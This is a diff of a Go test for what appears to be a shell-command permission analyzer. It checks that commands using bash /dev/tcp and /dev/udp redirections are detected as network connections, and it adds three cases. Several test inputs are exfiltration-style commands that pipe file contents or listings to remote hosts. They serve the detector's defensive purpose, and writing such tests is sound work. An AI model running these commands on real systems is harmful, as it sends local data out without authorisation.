@@ -294,13 +294,16 @@ func TestRiskOfEmbeddedLanguages(t *testing.T) {
 func TestConnectionsOfTheShell(t *testing.T) {
 	p := project(t, map[string]string{"f": "x"})
 	for command, want := range map[string]string{
-		`cat < /dev/tcp/10.0.0.1/80`:          "tcp://10.0.0.1:80/",
-		`echo x > /dev/udp/example.com/53`:    "udp://example.com:53/",
-		`cat < /dev/tcp/0x7f000001/7777`:      "tcp://127.0.0.1:7777/",
-		`cat f >& /dev/tcp/example.com/80`:    "tcp://example.com:80/",
-		`{ ls; cat f; } > /dev/tcp/1.2.3.4/9`: "tcp://1.2.3.4:9/",
-		`> /dev/tcp/1.2.3.4/9`:                "tcp://1.2.3.4:9/",
-		`bash -c 'cat < /dev/tcp/1.2.3.4/9'`:  "tcp://1.2.3.4:9/",
+		`cat < /dev/tcp/10.0.0.1/80`:              "tcp://10.0.0.1:80/",
+		`echo x > /dev/udp/example.com/53`:        "udp://example.com:53/",
+		`cat < /dev/tcp/0x7f000001/7777`:          "tcp://127.0.0.1:7777/",
+		`cat f >& /dev/tcp/example.com/80`:        "tcp://example.com:80/",
+		`{ ls; cat f; } > /dev/tcp/1.2.3.4/9`:     "tcp://1.2.3.4:9/",
+		`> /dev/tcp/1.2.3.4/9`:                    "tcp://1.2.3.4:9/",
+		`bash -c 'cat < /dev/tcp/1.2.3.4/9'`:      "tcp://1.2.3.4:9/",
+		`bash -c 'cat f' > /dev/tcp/1.2.3.4/9`:    "tcp://1.2.3.4:9/",
+		`timeout 5 sh -c '' < /dev/tcp/1.2.3.4/9`: "tcp://1.2.3.4:9/",
+		`eval ls > /dev/udp/1.2.3.4/9`:            "udp://1.2.3.4:9/",
 	} {
 		a := analyze(t, KindShell, p, "command", command)
 		i := slices.IndexFunc(a.Subjects, func(s permissions.Subject) bool { return s.Kind == KindFetch })
